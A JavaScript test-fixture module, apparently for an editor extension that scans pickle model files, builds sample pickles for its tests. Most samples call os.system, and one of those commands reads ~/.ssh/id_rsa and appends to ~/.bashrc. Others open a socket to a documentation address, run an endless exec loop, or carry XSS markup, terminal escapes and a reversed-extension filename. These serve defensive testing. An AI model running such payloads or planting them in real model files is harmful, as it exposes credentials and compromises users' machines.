/**
 * The models of the editor tests, assembled opcode by opcode and never loaded here. The hostile ones do harmless things
 * that look bad, with addresses that are reserved for documentation (RFC 5737).
 */
import { mkdir, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { call, global, op, pickle, value } from '../../samples/assemble.mjs';

const HARMLESS = pickle(value([1, 2, 3]));
const RUNS_A_COMMAND = calls('posix', 'system', 'id');
const ACTS_BADLY = pickle(
  value([
    call(global('os', 'system'), op.unicode("id; cat ~/.ssh/id_rsa; echo '# left by a model' >> ~/.bashrc")),
    call(global('socket', 'create_connection'), value(['192.0.2.7', 443])),
  ]),
);

// A program each half second or so, and work in between that is no waiting, for days.
const NEVER_ENDS = calls(
  'builtins',
  'exec',
  "import os\nfor n in range(10**6):\n os.system('id -%d' % n)\n for i in range(10**7): pass",
);

/** Paths in the workspace. */
export const MODELS = {
  harmless: 'harmless.pkl',
  hostile: 'hostile.pkl',
  endless: 'endless.pkl',
  changing: 'changing.pkl',
  actsWhenCalled: 'acts-when-called.pkl',
  doomed: 'doomed/in-a-folder.pkl',
  pair: ['pair/one.pkl', 'pair/two.pkl'],
  showcase: 'models/sentiment-classifier.pkl',
  /** Every text in it tries to be more than text. */
  hostileTexts: 'texts/markup.pkl',
  longPath: `${'a-folder-with-a-rather-long-name/'.repeat(6)}and-a-file-whose-name-is-not-short-either.pkl`,
  /** Would be a link, an icon, markup and a reversed extension if any surface took it for more than a name. */
  hostileName: 'names/[x](command:dynscan.showLog) $(bug) <img src=x onerror=alert(1)> \u202elkp.pkl',
};

/** Markup, a command link, an icon, escapes of a terminal, reversed text, and more than fits anywhere. */
export const HOSTILE_TEXT = `<img src=x onerror=alert(1)> [x](command:dynscan.showLog) $(bug) \u001b[31m \u202e ${'y'.repeat(10_000)}`;

/** A workspace that is fit for a picture. */
const PROJECT = {
  [MODELS.showcase]: ACTS_BADLY,
  'models/tokenizer.pkl': HARMLESS,
  'models/embeddings.pkl': HARMLESS,
  'train.py': Buffer.from('print("not a model")\n'),
};

const CASES = {
  [MODELS.harmless]: HARMLESS,
  [MODELS.hostile]: RUNS_A_COMMAND,
  [MODELS.endless]: NEVER_ENDS,
  [MODELS.changing]: RUNS_A_COMMAND,
  [MODELS.actsWhenCalled]: pickle(call(global('functools', 'partial'), global('posix', 'system'), op.unicode('id'))),
  [MODELS.doomed]: RUNS_A_COMMAND,
  [MODELS.pair[0]]: HARMLESS,
  [MODELS.pair[1]]: RUNS_A_COMMAND,
  [MODELS.hostileTexts]: pickle(call(op.global('os', HOSTILE_TEXT.replaceAll('\n', ' ')), op.unicode(HOSTILE_TEXT))),
  [MODELS.longPath]: RUNS_A_COMMAND,
  [MODELS.hostileName]: RUNS_A_COMMAND,
};

/** Writes the project of a person. */
export function makeProject(folder) {
  return write(folder, PROJECT);
}

/** Writes one model for each case that the tests are about. */
export function makeCases(folder) {
  return write(folder, CASES);
}

async function write(folder, files) {
  for (const [path, content] of Object.entries(files)) {
    await mkdir(dirname(join(folder, path)), { recursive: true });
    await writeFile(join(folder, path), content);
  }
}

function calls(module, name, argument) {
  return pickle(call(global(module, name), op.unicode(argument)));
}
